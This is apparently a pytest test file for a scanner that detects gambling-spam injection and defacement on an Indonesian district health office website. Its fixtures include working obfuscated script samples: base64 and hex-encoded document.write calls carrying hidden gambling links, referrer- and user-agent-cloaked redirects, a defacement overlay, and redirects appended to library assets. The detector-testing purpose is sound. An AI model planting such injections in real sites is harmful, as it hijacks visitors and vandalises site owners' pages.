"""Script detector: encoded gambling payloads, cloaked redirects and defacement overlays are
found; ordinary government-site scripts (analytics, SDKs, jQuery, language switchers, https
redirects, counters, countdowns) stay clean."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from scanner.detect import scripts
from scanner.detect.base import PageContext
from scanner.extract import analyse
from scanner.models import Category, Finding, Severity, Technique
from scanner.signatures import SignatureSet, load_signatures

HOST = "dinkes.bantulkab.go.id"
URL = f"https://{HOST}/berita/2024/05/vaksinasi-polio"
CTX = PageContext(url=URL, site_host=HOST)


@pytest.fixture(scope="module")
def sigs() -> SignatureSet:
    return load_signatures()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def page(*scripts_: str, handler: str = "") -> str:
    body = "".join(f"<script>{s}</script>" for s in scripts_)
    extra = f'<button onclick="{handler}">Cetak</button>' if handler else ""
    return f"""<!DOCTYPE html><html lang="id"><head><meta charset="utf-8">
<title>Pekan Imunisasi Nasional Polio - Dinas Kesehatan Kabupaten Bantul</title></head>
<body><header><nav><a href="/">Beranda</a> <a href="/profil">Profil</a></nav></header>
<main><h1>Pekan Imunisasi Nasional Polio 2024</h1>
<p>Dinas Kesehatan Kabupaten Bantul mengajak orang tua membawa balita ke posyandu terdekat.
Jadwal slot pelayanan vaksinasi pukul 08.00-12.00 WIB.</p>{extra}</main>
<footer>Jl. Kesehatan No. 1, Bantul</footer>{body}</body></html>"""


def run(sigs: SignatureSet, *code: str, handler: str = "") -> list[Finding]:
    view = analyse(page(*code, handler=handler), URL, site_host=HOST)
    return scripts.detect(view, CTX, sigs)


def only(findings: list[Finding], technique: Technique) -> Finding:
    matching = [f for f in findings if f.technique is technique]
    assert len(matching) == 1, findings
    return matching[0]


HIDDEN_LINKS = (
    '<div style="position:absolute;left:-9999px">'
    '<a href="https://gacor-maxwin88.com/">slot gacor gampang maxwin</a> '
    '<a href="https://gacor-maxwin88.com/daftar">bonus new member 100</a></div>'
)


# --------------------------------------------------------------------------- attacks


def test_base64_document_write_of_hidden_gambling_links(sigs: SignatureSet) -> None:
    finding = only(run(sigs, f"document.write(atob('{b64(HIDDEN_LINKS)}'));"),
                   Technique.JS_INJECTION)  # fmt: skip
    assert finding.category is Category.GAMBLING
    assert finding.severity is Severity.HIGH
    assert finding.target_domain == "gacor-maxwin88.com"
    ev = finding.evidence[0]
    assert "gacor-maxwin88.com" in " ".join(ev.targets)
    assert "base64" in ev.detail and ev.path.startswith("/html/body")


def test_base64_payload_held_in_a_variable(sigs: SignatureSet) -> None:
    code = f"var _0x1f='{b64(HIDDEN_LINKS)}';var d=document;d.write(window.atob(_0x1f));"
    assert only(run(sigs, code), Technique.JS_INJECTION).category is Category.GAMBLING


def test_fromcharcode_built_redirect_for_search_visitors(sigs: SignatureSet) -> None:
    target = "https://slot-gacor88.net/?ref=bantul"
    codes = ",".join(str(ord(c)) for c in target)
    code = (
        f"var u=String.fromCharCode({codes});"
        "if(/google|bing|yahoo/i.test(document.referrer)){window.location.href=u;}"
    )
    finding = only(run(sigs, code), Technique.JS_REDIRECT)
    assert finding.category is Category.GAMBLING and finding.severity is Severity.HIGH
    assert finding.evidence[0].targets == (target,)
    assert "referrer" in finding.evidence[0].detail
    assert finding.target_domain == "slot-gacor88.net"


def test_unescape_payload(sigs: SignatureSet) -> None:
    html = '<a href="https://maxwin-hoki77.com">daftar slot gacor gampang maxwin</a>'
    encoded = "".join(f"%{ord(c):02X}" for c in html)
    finding = only(run(sigs, f"document.write(unescape('{encoded}'));"), Technique.JS_INJECTION)
    assert finding.category is Category.GAMBLING
    assert "percent" in finding.evidence[0].detail


def test_hex_escaped_string_written_to_innerhtml(sigs: SignatureSet) -> None:
    escaped = "".join(f"\\x{ord(c):02x}" for c in HIDDEN_LINKS)
    code = f"var h='{escaped}';document.getElementById('footer-ext').innerHTML=h;"
    assert only(run(sigs, code), Technique.JS_INJECTION).category is Category.GAMBLING


def test_concatenated_redirect_target(sigs: SignatureSet) -> None:
    code = (
        "var a='https://'+'ga'+'cor'+'-max'+'win88'+'.com/';"
        "if(document.referrer.indexOf('google')>-1){top.location=a;}"
    )
    finding = only(run(sigs, code), Technique.JS_REDIRECT)
    assert finding.target_domain == "gacor-maxwin88.com"


def test_user_agent_conditioned_redirect_to_unknown_host(sigs: SignatureSet) -> None:
    code = (
        "if(/android|iphone|mobile/i.test(navigator.userAgent)){"
        "window.location.replace('https://lp-promo.zx81q.example/m/');}"
    )
    finding = only(run(sigs, code), Technique.JS_REDIRECT)
    assert finding.category is Category.MALICIOUS_SCRIPT
    assert finding.severity is Severity.HIGH
    assert "User-Agent" in finding.evidence[0].detail


def test_unconditional_redirect_to_gambling_domain(sigs: SignatureSet) -> None:
    finding = only(run(sigs, "location.href='https://gacor-maxwin88.com/';"),
                   Technique.JS_REDIRECT)  # fmt: skip
    assert finding.category is Category.GAMBLING and finding.severity is Severity.HIGH


def test_innerhtml_defacement_overlay(sigs: SignatureSet) -> None:
    code = (
        "document.body.innerHTML='<center><h1>Hacked by ./Ghost404</h1>"
        "<p>Your security is low, patch your website</p></center>';"
    )
    finding = only(run(sigs, code), Technique.DEFACEMENT_OVERLAY)
    assert finding.category is Category.DEFACEMENT and finding.severity is Severity.CRITICAL
    assert "hacked by" in finding.evidence[0].match.lower()


def test_eval_atob_nested_twice(sigs: SignatureSet) -> None:
    inner = f"document.write('{HIDDEN_LINKS}')"
    code = f"eval(atob('{b64(f'eval(atob({chr(39)}{b64(inner)}{chr(39)}))')}'))"
    finding = only(run(sigs, code), Technique.JS_INJECTION)
    assert "depth 2" in finding.evidence[0].detail


def test_event_handler_redirect(sigs: SignatureSet) -> None:
    handler = "window.location='https://gacor-maxwin88.com/login'"
    assert only(run(sigs, handler=handler), Technique.JS_REDIRECT).category is Category.GAMBLING


def test_script_injecting_gambling_script_host(sigs: SignatureSet) -> None:
    code = (
        "var s=document.createElement('script');s.src='https://cdn.slot-gacor88.net/a.js';"
        "document.head.appendChild(s);"
    )
    assert only(run(sigs, code), Technique.JS_INJECTION).target_domain == "slot-gacor88.net"


# --------------------------------------------------------------------------- benign traps

GA = """window.dataLayer = window.dataLayer || [];
function gtag(){dataLayer.push(arguments);}
gtag('js', new Date()); gtag('config', 'G-8XK2P1QZ7M');"""
GTM = """(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':
new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
})(window,document,'script','dataLayer','GTM-5T8QW2L');"""
FB_SDK = """window.fbAsyncInit = function() { FB.init({appId: '1234567890', xfbml: true,
version: 'v19.0'}); }; (function(d, s, id){ var js, fjs = d.getElementsByTagName(s)[0];
if (d.getElementById(id)) {return;} js = d.createElement(s); js.id = id;
js.src = "https://connect.facebook.net/id_ID/sdk.js"; fjs.parentNode.insertBefore(js, fjs);
}(document, 'script', 'facebook-jssdk'));"""
BACK_TO_TOP = """$(window).scroll(function(){ if ($(this).scrollTop() > 100) { $('#back-to-top')
.fadeIn(); } else { $('#back-to-top').fadeOut(); } }); $('#back-to-top').click(function(){
$('html, body').animate({scrollTop: 0}, 600); return false; });"""
LANG_SWITCH = """document.getElementById('bahasa').addEventListener('change', function (e) {
if (e.target.value === 'en') { window.location.href = '/en' + location.pathname; }
else { window.location = 'https://dinkes.bantulkab.go.id/id/beranda'; } });"""
COOKIE = """if (!document.cookie.match(/cookie_ok=1/)) { document.getElementById('cookie-bar')
.innerHTML = '<p>Situs ini menggunakan cookie. <a href="/kebijakan-privasi">Pelajari</a></p>'; }"""
HTTPS = """if (location.protocol !== 'https:') { location.replace('https://' + location.hostname +
location.pathname + location.search); }"""
TRANSLATE = """function googleTranslateElementInit() { new google.translate.TranslateElement(
{pageLanguage: 'id', includedLanguages: 'en,ar,zh-CN'}, 'google_translate_element'); }"""
COUNTER = """document.write('<img src="https://c.statcounter.com/1234567/0/abcd1234/1/" '
+ 'alt="Statistik Pengunjung">'); document.write('Pengunjung hari ini: 1.245');"""
DATA_IMAGE = """var logo = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFc
SJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='; document.getElementById('logo').src = logo;
"""
COUNTDOWN = """var akhir = new Date('Nov 27, 2024 07:00:00').getTime(); setInterval(function() {
var s = akhir - new Date().getTime(); document.getElementById('hitung-mundur').innerHTML =
Math.floor(s / 86400000) + ' hari menuju Pilkada Serentak'; }, 1000);"""
KEYMAP = """var map = [72,101,108,108,111,32,119,111,114,108,100]; document.onkeypress = function(e)
{ var ch = String.fromCharCode(e.which); if (map.indexOf(e.which) > -1) { console.log(ch); } };"""
SHARE = """function bagikan() { var u = encodeURIComponent(location.href);
if (/Android|iPhone/i.test(navigator.userAgent)) {
window.open('https://api.whatsapp.com/send?text=' + u); } else {
window.open('https://web.whatsapp.com/send?text=' + u); } }"""
NEWS_TICKER = """$('#ticker').html('Satgas Pemberantasan Judi Online memblokir 2.000 situs '
+ 'slot gacor; Polres Bantul menangkap bandar togel');"""
MOBILE_INTERNAL = """if (screen.width < 720 && /Android|iPhone/i.test(navigator.userAgent)) {
window.location.href = 'https://m.bantulkab.go.id/dinkes/'; }"""


@pytest.mark.parametrize(
    "code",
    [GA, GTM, FB_SDK, BACK_TO_TOP, LANG_SWITCH, COOKIE, HTTPS, TRANSLATE, COUNTER, DATA_IMAGE,
     COUNTDOWN, KEYMAP, SHARE, NEWS_TICKER, MOBILE_INTERNAL],
    ids=["ga", "gtm", "fb-sdk", "back-to-top", "lang-switch", "cookie", "https", "translate",
         "counter", "data-image", "countdown", "keymap", "share", "news-ticker", "mobile-internal"],
)  # fmt: skip
def test_benign_scripts_stay_clean(sigs: SignatureSet, code: str) -> None:
    assert run(sigs, code) == []


def test_json_data_script_is_not_code(sigs: SignatureSet) -> None:
    html = page().replace(
        "</body>",
        '<script type="application/json">{"u":"https://gacor-maxwin88.com","t":"slot gacor"}'
        "</script></body>",
    )
    assert scripts.detect(analyse(html, URL, site_host=HOST), CTX, sigs) == []


# --------------------------------------------------------------------------- assets

LIBRARY = (
    "/*! MiniLib v3.7.1 | (c) MiniLib Foundation | license MIT */"
    '!function(e,t){"use strict";var n=e.document,r=e.navigator.userAgent,i=/Mobile|Android/.'
    "test(r);function o(e){return n.querySelectorAll(e)}function a(t){e.location.href=t}"
    'function s(e){return e.replace(/^\\s+|\\s+$/g,"")}var u={isMobile:i,go:a,trim:s,$:o,'
    'version:"3.7.1",ajax:function(t,r){var i=new XMLHttpRequest;i.open("GET",t),'
    "i.onload=function(){r(i.responseText)},i.send()}};e.MiniLib=u}(window);"
) * 40


def test_clean_minified_library_asset(sigs: SignatureSet) -> None:
    assert (
        scripts.detect_asset(f"https://{HOST}/assets/js/minilib.min.js", LIBRARY, CTX, sigs) == []
    )


def test_appended_referrer_redirect_in_library_asset(sigs: SignatureSet) -> None:
    code = LIBRARY + (
        ';(function(){var r=document.referrer;if(r.indexOf("google")>-1||r.indexOf("bing")>-1)'
        '{window.location.href="https://situs-gacor88.com/?src=dinkes";}})();'
    )
    url = f"https://{HOST}/assets/js/jquery.min.js"
    finding = only(scripts.detect_asset(url, code, CTX, sigs), Technique.MODIFIED_ASSET)
    assert finding.category is Category.GAMBLING
    assert finding.severity.rank >= Severity.HIGH.rank
    assert finding.url == url and finding.evidence[0].path == url
    assert "referrer" in finding.evidence[0].detail


def test_eval_atob_in_asset(sigs: SignatureSet) -> None:
    payload = f"document.write('{HIDDEN_LINKS}');"
    code = LIBRARY + f";eval(atob('{b64(payload)}'));"
    findings = scripts.detect_asset(f"https://{HOST}/js/app.js", code, CTX, sigs)
    assert only(findings, Technique.MODIFIED_ASSET).category is Category.GAMBLING


SYSTEM_JQUERY = Path("/usr/share/javascript/jquery/jquery.min.js")


@pytest.mark.skipif(not SYSTEM_JQUERY.exists(), reason="no system jQuery to measure against")
def test_real_jquery_is_clean_and_appended_redirect_found(sigs: SignatureSet) -> None:
    code = SYSTEM_JQUERY.read_text(encoding="utf-8", errors="replace")
    url = f"https://{HOST}/js/jquery.min.js"
    assert scripts.detect_asset(url, code, CTX, sigs) == []
    bad = (
        code
        + ';if(/bot|android|iphone/i.test(navigator.userAgent)){location.replace("https://zq7x1v.example/")}'
    )
    assert only(scripts.detect_asset(url, bad, CTX, sigs), Technique.MODIFIED_ASSET)
